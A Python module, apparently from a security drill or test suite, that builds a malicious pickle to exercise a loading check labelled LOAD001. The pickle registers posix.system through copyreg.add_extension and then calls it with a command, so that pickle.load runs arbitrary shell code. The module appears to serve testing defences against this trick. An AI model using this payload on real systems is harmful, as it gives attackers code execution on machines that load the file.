"""The pickle itself registers the extension code it uses."""

from __future__ import annotations

from pathlib import Path

from veristep.drill.attack import Attack
from veristep.drill.load import payload


def _plant(folder: Path) -> Path:
    path = folder / "reg.pkl"
    text = payload.COMMAND.encode()
    register = b"ccopyreg\nadd_extension\n(S'posix'\nS'system'\nI43\ntR0"
    path.write_bytes(
        b"\x80\x02" + register + b"\x82\x2bX" + len(text).to_bytes(4, "little") + text + b"\x85R."
    )
    return payload.script(
        folder, path, "with open(path, 'rb') as file:\n    pickle.load(file)", "import pickle"
    )


ATTACK = Attack(
    "registers a code of its own",
    "the pickle calls copyreg.add_extension and then uses the code",
    "LOAD001",
    _plant,
    incident=(8,),
)
